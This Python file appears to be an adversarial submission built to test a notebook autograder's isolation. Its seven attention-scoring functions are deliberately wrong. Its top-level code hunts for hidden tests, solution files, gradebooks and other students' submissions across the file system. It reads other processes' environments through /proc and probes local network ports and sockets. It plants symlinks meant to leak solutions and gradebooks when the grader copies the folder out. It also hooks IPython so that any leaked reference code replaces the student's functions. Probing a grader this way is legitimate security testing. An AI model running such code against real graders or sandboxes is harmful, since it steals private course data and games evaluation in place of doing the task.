"""Looks everywhere for the answers, and uses them if it finds any.

The seven functions below are wrong. The top-level code searches for a reference solution or
the hidden tests and, if it can read any source that defines the contract's functions,
executes those definitions so that the "student's" functions become the reference ones:

- walks every directory it can see (skipping the interpreter's own trees) for
  `hidden_tests.py`, `solutions/`, `source/`, `gradebook*.db`, other `.ipynb` notebooks,
  `submitted/` and `autograded/` folders;
- tries the course directory, the grading batch folder and the repository (from the Python
  environment's path, `<repo>/.venv`) directly;
- reads `/proc` (every visible process's environment and command line, mounts, inherited file
  descriptors, which it also tries to read from), the environment variables, and tries the
  network: TCP to localhost ports (IPv4 and IPv6), UDP and DNS, abstract Unix sockets;
- plants symbolic links named `leak-*` in its folder, relative to the folder (the kernel sees it
  as `/submission`, but a link is resolved wherever it is read: on the grader's side the folder
  is `<course>/.grading-*/<student>--<assignment>/autograde-*/autograded/<student>/<assignment>`,
  a layout that the grader's own error messages print), pointing at the course's solutions,
  gradebook, submissions, hidden tests and reference solution and at the batch's gradebook
  snapshot, in case the grader copies the folder out of the sandbox following links (the
  feedback then hands the files among them to the student).

What it found is printed (so the feedback shows it). If any leaked definition is found, an
IPython `post_run_cell` hook re-executes it after every cell, so the tests meet it.
"""

import ast
import os
import socket
import sys
from pathlib import Path

import torch

MAX_EARNED = 0

_FUNCTIONS = {"dot_score", "scaled_dot_score", "general_score", "concat_score",
              "additive_score", "masked_softmax", "attend"}
_SKIP = ("/usr", "/proc", "/sys", "/dev", "/root/.pyenv", sys.prefix + "/lib",
         sys.base_prefix + "/lib")
_INTERESTING = ("hidden_tests", "solution", "gradebook", "submitted", "autograded", "source",
                "release", ".ipynb", "catalogue", "feedback")
_found = []
_leaked_sources = []


def _note(text):
    _found.append(text)


def _try_read(path, limit=2_000_000):
    try:
        with open(path, "rb") as f:
            data = f.read(limit)
    except OSError as error:
        return None, f"{type(error).__name__}"
    text = data.decode("utf-8", "replace")
    if ("def dot_score" in text or "def attend" in text) and not str(path).endswith(".ipynb"):
        _leaked_sources.append(text)
    return text, f"read {len(data)} bytes"


# 1. walk the visible file system
for _root, _dirs, _files in os.walk("/", onerror=lambda e: None):
    if _root.startswith(_SKIP):
        _dirs[:] = []
        continue
    for _name in _dirs + _files:
        if any(word in _name.lower() for word in _INTERESTING):
            _path = os.path.join(_root, _name)
            if os.path.isfile(_path):
                _note(f"found {_path}: {_try_read(_path)[1]}")
            else:
                _note(f"found directory {_path}")

# 2. where the course, the batch and the repository might be
_here = Path.cwd()
_notebook = next(iter(sorted(_here.glob("*.ipynb"))), None)
_assignment = _notebook.stem if _notebook is not None else _here.name
_repo = Path(sys.prefix).parent
_guesses = [Path(p) for p in ("/work/main", "/srv/course", "/home", "/root")]
for _base in (_here.parent, _here.parent.parent, _repo, *_guesses):
    for _rel in (f"solutions/{_assignment}/{_assignment}.py",
                 f"solutions/{_assignment}/hidden_tests.py",
                 f"source/{_assignment}/{_assignment}.ipynb", "gradebook.db",
                 "gradebook-snapshot.db", "submitted", "autograder/probe.py"):
        _path = _base / _rel
        if _path.is_dir():
            _note(f"listable {_path}: {os.listdir(_path)[:20]}")
        elif _path.exists():
            _note(f"{_path}: {_try_read(_path)[1]}")
        else:
            _note(f"not visible: {_path}")

# 3. /proc, environment, inherited descriptors
_note(f"environment: {sorted(os.environ)}")
for _pid in [p for p in os.listdir("/proc") if p.isdigit()]:
    for _what in ("environ", "cmdline", "cwd", "root"):
        try:
            if _what in ("cwd", "root"):
                _note(f"/proc/{_pid}/{_what} -> {os.readlink(f'/proc/{_pid}/{_what}')}")
            else:
                _note(f"/proc/{_pid}/{_what}: {len(open(f'/proc/{_pid}/{_what}', 'rb').read())}"
                      " bytes")
        except OSError as _e:
            _note(f"/proc/{_pid}/{_what}: {type(_e).__name__}")
for _fd in range(3, 256):
    try:
        _target = os.readlink(f"/proc/self/fd/{_fd}")
    except OSError:
        continue
    if _target.startswith("/") and not _target.startswith(("/dev/", "/tmp/.ipython")):
        _note(f"inherited fd {_fd} -> {_target}: {_try_read(f'/proc/self/fd/{_fd}')[1]}")

# 4. the network
for _family, _host in ((socket.AF_INET, "127.0.0.1"), (socket.AF_INET6, "::1")):
    for _port in (22, 80, 443, 3306, 5432, 6379, 8000, 8080, 8888, 8889, 9000):
        try:
            with socket.socket(_family, socket.SOCK_STREAM) as _s:
                _s.settimeout(0.3)
                _s.connect((_host, _port))
                _note(f"connected to {_host}:{_port}")
        except OSError as _e:
            _note(f"{_host}:{_port}: {type(_e).__name__}")
try:
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as _s:
        _s.settimeout(0.3)
        _s.sendto(b"\x12\x34\x01\x00\x00\x01\x00\x00\x00\x00\x00\x00\x04pypi\x03org\x00\x00\x01"
                  b"\x00\x01", ("8.8.8.8", 53))
        _note(f"UDP DNS answered: {_s.recv(512)!r}")
except OSError as _e:
    _note(f"UDP DNS: {type(_e).__name__}")
try:
    _note(f"getaddrinfo: {socket.getaddrinfo('pypi.org', 443)[:1]}")
except OSError as _e:
    _note(f"getaddrinfo: {type(_e).__name__}")
try:
    for _line in open("/proc/net/unix").read().splitlines()[1:]:
        _fields = _line.split()
        if len(_fields) >= 8 and _fields[-1].startswith("@"):
            try:
                with socket.socket(socket.AF_UNIX) as _s:
                    _s.connect("\0" + _fields[-1][1:])
                    _note(f"connected to abstract socket {_fields[-1]}")
            except OSError as _e:
                _note(f"abstract socket {_fields[-1]}: {type(_e).__name__}")
except OSError:
    pass

# 5. links for whoever copies this folder out of the sandbox, relative to the folder
_COURSE = "../" * 6  # <course>/.grading-*/<student>--<assignment>/autograde-*/autograded/<s>/<a>
_BATCH = "../" * 5
_targets = {"leak-solutions": _COURSE + "solutions", "leak-gradebook.db": _COURSE + "gradebook.db",
            "leak-submitted": _COURSE + "submitted",
            # single files too: the feedback keeps the folder's files, not its directories
            "leak-hidden_tests.py": _COURSE + f"solutions/{_assignment}/hidden_tests.py",
            "leak-solution.py": _COURSE + f"solutions/{_assignment}/{_assignment}.py",
            "leak-gradebook-snapshot.db": _BATCH + "gradebook-snapshot.db"}
for _name, _target in _targets.items():
    try:
        os.symlink(_target, _name)
        _note(f"planted {_name} -> {_target}")
    except OSError as _e:
        _note(f"could not plant {_name}: {type(_e).__name__}")

print("\n".join(_found)[:200_000])
print(f"{len(_leaked_sources)} readable source(s) defining the contract's functions")


def dot_score(query, keys):
    return (keys * query.unsqueeze(1)).sum(-1) * -1.0


def scaled_dot_score(query, keys):
    return (keys * query.unsqueeze(1)).sum(-1) / keys.shape[-1] ** 0.25


def general_score(query, keys, W):
    return (keys * (query @ W).unsqueeze(1)).sum(-1) + W.sum()


def concat_score(query, keys, W, v):
    expanded = query.unsqueeze(1).expand(-1, keys.shape[1], -1)
    return torch.tanh(torch.cat([expanded, keys], dim=-1) @ W.T) @ v * 0.5


def additive_score(query, keys, W_q, W_k, v):
    return torch.tanh(keys @ W_k.T - (query @ W_q.T).unsqueeze(1)) @ v


def masked_softmax(scores, mask=None):
    weights = torch.softmax(scores * 0.75, dim=-1)
    return weights if mask is None else weights * mask


def attend(query, keys, values=None, score=None, mask=None):
    if values is None:
        values = keys
    weights = torch.softmax(keys.sum(-1), dim=-1)
    return (weights.unsqueeze(1) @ values).squeeze(1), weights


# 6. if any answer was readable, its definitions replace the wrong ones, after every cell (the
# answer cells below this one would otherwise define the wrong ones again)
def _leaked_code():
    for source in _leaked_sources:
        try:
            tree = ast.parse(source)
        except SyntaxError:
            continue
        keep = [n for n in tree.body
                if isinstance(n, (ast.Import, ast.ImportFrom))
                or (isinstance(n, ast.FunctionDef) and n.name in _FUNCTIONS)]
        if any(isinstance(n, ast.FunctionDef) for n in keep):
            return compile(ast.Module(body=keep, type_ignores=[]), "<leaked>", "exec")
    return None


_code = _leaked_code()
if _code is not None:
    from IPython import get_ipython

    _shell = get_ipython()
    _shell.events.register("post_run_cell",
                           lambda *args: exec(_code, _shell.user_ns))
    print("using leaked definitions")
